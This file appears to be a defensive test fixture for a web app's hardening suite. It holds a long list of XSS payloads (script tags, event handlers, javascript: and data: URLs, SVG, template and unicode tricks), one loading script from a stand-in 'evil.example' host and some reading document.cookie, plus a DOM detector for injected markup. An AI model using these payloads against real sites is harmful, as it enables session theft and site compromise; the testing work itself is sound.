/**
 * XSS payloads for the hardening suite (docs/decisions/security-redirects-and-links.md): script tags, event-handler attributes,
 * `javascript:`/`data:` links, SVG, template and markup breaking (including react-i18next's
 * `<0>`/`<support>` component tags), encodings and unicode tricks. A payload that ran would
 * set `window.__xss`. Test-only; no production code imports this file.
 */
export const XSS_PAYLOADS: readonly string[] = [
  // script tags
  '<script>__xss=1</script>',
  '<SCRIPT>__xss=1</SCRIPT>',
  '<script src=//evil.example/x.js></script>',
  '<script>alert(document.cookie)</script>',
  '</script><script>__xss=1</script>',
  '<scr<script>ipt>__xss=1</script>',
  '<script/x>__xss=1</script>',
  '<script\n>__xss=1</script>',
  // event-handler attributes
  '<img src=x onerror=__xss=1>',
  '<img src=x onerror="__xss=1">',
  '<IMG SRC=x OnErRoR=__xss=1>',
  '<img/src=x/onerror=__xss=1>',
  '<svg onload=__xss=1>',
  '<svg/onload=__xss=1>',
  '<body onload=__xss=1>',
  '<iframe onload=__xss=1>',
  '<input autofocus onfocus=__xss=1>',
  '<details open ontoggle=__xss=1>',
  '<video><source onerror=__xss=1>',
  '<audio src=x onerror=__xss=1>',
  '<marquee onstart=__xss=1>',
  '<div onmouseover=__xss=1>x</div>',
  '<a onclick=__xss=1>x</a>',
  '<select autofocus onfocus=__xss=1>',
  '<textarea autofocus onfocus=__xss=1>',
  '<keygen autofocus onfocus=__xss=1>',
  '<object data=x onerror=__xss=1>',
  '<style onload=__xss=1>',
  '<link rel=stylesheet href=x onerror=__xss=1>',
  '<body/onpageshow=__xss=1>',
  '<x onpointerenter=__xss=1>x',
  '<img src=x onerror=eval(atob("X194c3M9MQ=="))>',
  '<img src="x` `<script>__xss=1</script>"` `>',
  '<isindex type=image src=1 onerror=__xss=1>',
  '<xss onafterscriptexecute=__xss=1><script>1</script>',
  // breaking out of attributes and elements
  '"><img src=x onerror=__xss=1>',
  "'><img src=x onerror=__xss=1>",
  '" onmouseover="__xss=1',
  "' onmouseover='__xss=1",
  '" autofocus onfocus="__xss=1',
  '"><svg onload=__xss=1>',
  '\'"><script>__xss=1</script>',
  '</title><script>__xss=1</script>',
  '</textarea><script>__xss=1</script>',
  '</style><script>__xss=1</script>',
  '--><script>__xss=1</script>',
  ']]><script>__xss=1</script>',
  '</noscript><img src=x onerror=__xss=1>',
  '<!--<img src="--><img src=x onerror=__xss=1>',
  '\\"><img src=x onerror=__xss=1>',
  '"/><img src=x onerror=__xss=1>',
  // javascript: and data: links
  'javascript:__xss=1',
  'JaVaScRiPt:__xss=1',
  'javascript:alert(document.cookie)',
  'java\tscript:__xss=1',
  'java\nscript:__xss=1',
  ' javascript:__xss=1',
  '\u0001javascript:__xss=1',
  'javascript&colon;__xss=1',
  '&#106;avascript:__xss=1',
  'javascript://%0a__xss=1',
  'data:text/html,<script>__xss=1</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+',
  'DATA:text/html,<script>__xss=1</script>',
  'vbscript:msgbox(1)',
  '<a href="javascript:__xss=1">x</a>',
  '<a href=javascript:__xss=1>x</a>',
  '<iframe src=javascript:__xss=1>',
  '<iframe srcdoc="<script>__xss=1</script>">',
  '<embed src=javascript:__xss=1>',
  '<form action=javascript:__xss=1><button>x',
  '<button formaction=javascript:__xss=1>x',
  '<math><a xlink:href=javascript:__xss=1>x',
  '<base href=javascript:/>',
  '<meta http-equiv=refresh content="0;url=javascript:__xss=1">',
  '<a href="&#x6A;avascript:__xss=1">x</a>',
  '<a href="jav&#x09;ascript:__xss=1">x</a>',
  // SVG
  '<svg><script>__xss=1</script></svg>',
  '<svg><animate onbegin=__xss=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:__xss=1"><text>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=__xss=1>',
  '<svg><set onbegin=__xss=1 attributeName=x>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=__xss=1>">',
  '<svg onload=eval(location.hash.slice(1))>',
  // templates and markup the app's own libraries might read
  "{{constructor.constructor('__xss=1')()}}",
  '${__xss=1}',
  '{{__xss=1}}',
  '<%= __xss=1 %>',
  '#{__xss=1}',
  '<0>x</0>',
  '<1>__xss</1>',
  '<support>x</support>',
  '<login>x</login>',
  '<reset>x</reset>',
  '<br/><strong>x</strong>',
  '<template><img src=x onerror=__xss=1></template>',
  '<noscript><p title="</noscript><img src=x onerror=__xss=1>">',
  '<![CDATA[<script>__xss=1</script>]]>',
  '<?xml version="1.0"?><script>__xss=1</script>',
  '<style>@import "javascript:__xss=1";</style>',
  '<div style="background:url(javascript:__xss=1)">',
  '<img src=x:expression(__xss=1)>',
  // encodings
  '%3Cscript%3E__xss=1%3C/script%3E',
  '&lt;script&gt;__xss=1&lt;/script&gt;',
  '\\x3cscript\\x3e__xss=1\\x3c/script\\x3e',
  '\\u003cscript\\u003e__xss=1\\u003c/script\\u003e',
  '<img src=x onerror=&#95;&#95;xss=1>',
  '<img src=x onerror=\\u005f\\u005fxss=1>',
  // unicode tricks
  '\uff1cscript\uff1e__xss=1\uff1c/script\uff1e',
  '\u202e<img src=x onerror=__xss=1>',
  '\u0000<script>__xss=1</script>',
  '<scr\u0000ipt>__xss=1</script>',
  '\ufeff<img src=x onerror=__xss=1>',
  '\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:__xss=1',
];

/** The payloads that fit a name (2 to 35 characters, spec §5), for fields the API validates. */
export const XSS_NAME_PAYLOADS: readonly string[] = XSS_PAYLOADS.filter((p) => p.trim().length >= 2 && p.trim().length <= 35);

const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'srcset', 'content'];
const SCRIPT_SCHEME = /^(javascript|data|vbscript):/i;

/** An attribute value as a browser reads a URL: entities already decoded by the DOM, controls and spaces dropped. */
function schemeOf(value: string): string {
  return value.replace(/[\u0000-\u0020\u007f]/g, '');
}

/** Elements that can run code, load something or act on a click: more of them than the harmless render has is a finding. */
const ACTIVE_TAGS = new Set([
  'a',
  'area',
  'audio',
  'base',
  'button',
  'details',
  'embed',
  'form',
  'iframe',
  'img',
  'input',
  'link',
  'math',
  'meta',
  'object',
  'script',
  'select',
  'source',
  'style',
  'svg',
  'textarea',
  'video',
]);

/**
 * What a payload managed to put into `root`: elements of a kind the component does not
 * render with harmless data (`baseline`, from `tagsOf` on a harmless render), more active
 * elements (links, images, buttons, frames …) than that render has, any `on*` attribute,
 * `srcdoc`, and URL attributes with a script or data scheme. Empty when every payload
 * stayed text.
 */
export function xssFindings(root: Element, baseline: ReadonlyMap<string, number>): string[] {
  const findings: string[] = [];
  for (const element of [root, ...Array.from(root.querySelectorAll('*'))]) {
    const tag = element.tagName.toLowerCase();
    if (element !== root && !baseline.has(tag)) findings.push(`element <${tag}>`);
    for (const { name, value } of Array.from(element.attributes)) {
      const attribute = name.toLowerCase();
      if (attribute.startsWith('on')) findings.push(`<${tag} ${attribute}>`);
      if (attribute === 'srcdoc') findings.push(`<${tag} srcdoc>`);
      if (URL_ATTRIBUTES.includes(attribute) && SCRIPT_SCHEME.test(schemeOf(value))) findings.push(`<${tag} ${attribute}="${value.slice(0, 40)}">`);
    }
  }
  for (const [tag, count] of tagsOf(root)) {
    const allowed = baseline.get(tag);
    if (allowed !== undefined && ACTIVE_TAGS.has(tag) && count > allowed) findings.push(`${count - allowed} more <${tag}> than with harmless data`);
  }
  return findings;
}

/** How many elements of each tag `root` holds, for `xssFindings`'s baseline. */
export function tagsOf(root: Element): Map<string, number> {
  const counts = new Map<string, number>();
  for (const element of Array.from(root.querySelectorAll('*'))) {
    const tag = element.tagName.toLowerCase();
    counts.set(tag, (counts.get(tag) ?? 0) + 1);
  }
  return counts;
}
